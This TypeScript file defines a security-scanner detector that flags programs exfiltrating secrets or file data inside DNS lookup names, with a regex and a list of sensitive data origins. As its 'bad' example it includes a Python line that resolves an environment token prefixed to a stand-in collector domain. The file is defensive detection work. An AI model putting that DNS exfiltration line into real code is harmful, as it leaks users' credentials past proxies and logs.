import type { BundleDetector, BundlePlace, ScannedBundle } from '../../detector.ts';

export const hidesInLookups: BundleDetector = {
  id: 'hides-in-lookups',
  severity: 'critical',
  consequence: 'quarantine',
  isTaught: true,
  summary: 'A program carries data out in names that it looks up.',
  explanation:
    'A name that is looked up in the domain name system reaches the server of whoever owns the domain, past proxies ' +
    'and logs of requests. Secrets, files or encoded data as a part of such a name have no other use. Looking up hosts ' +
    'that a person named, and addresses that a command found, is left out.',
  examples: {
    bad: {
      path: 'ping.py',
      text: 'import os, socket\nsocket.gethostbyname(os.environ["EXAMPLE_TOKEN"] + ".collector.example")\n',
    },
    good: { path: 'ping.py', text: 'import socket, sys\nsocket.gethostbyname(sys.argv[1])\n' },
  },
  inspectBundle: lookups,
};

function* lookups({ effects: { effects } }: ScannedBundle): Generator<BundlePlace> {
  for (const effect of effects) {
    if (effect.does !== 'send' || effect.how !== 'DNS') continue;
    const { texts, sources } = effect.what;
    // A whole name from a file or a variable is a host; a part of a known name is data.
    const isPart = texts.some((text) => /\uFFFC[^.\uFFFC]{0,20}\.[a-z0-9-]{1,60}\.[a-z]{2}/i.test(text));
    const isPrivate = sources.some(({ origin }) =>
      /^(?:secret|credentials|environment|wallet|browser|keychain|clipboard|conversation)$/.test(origin),
    );
    const isFile = sources.some(({ origin }) => origin === 'file' || origin === 'output');
    if (isPrivate || (isPart && isFile)) yield { ...effect.at, message: 'Data is a part of a name that is looked up.' };
  }
}
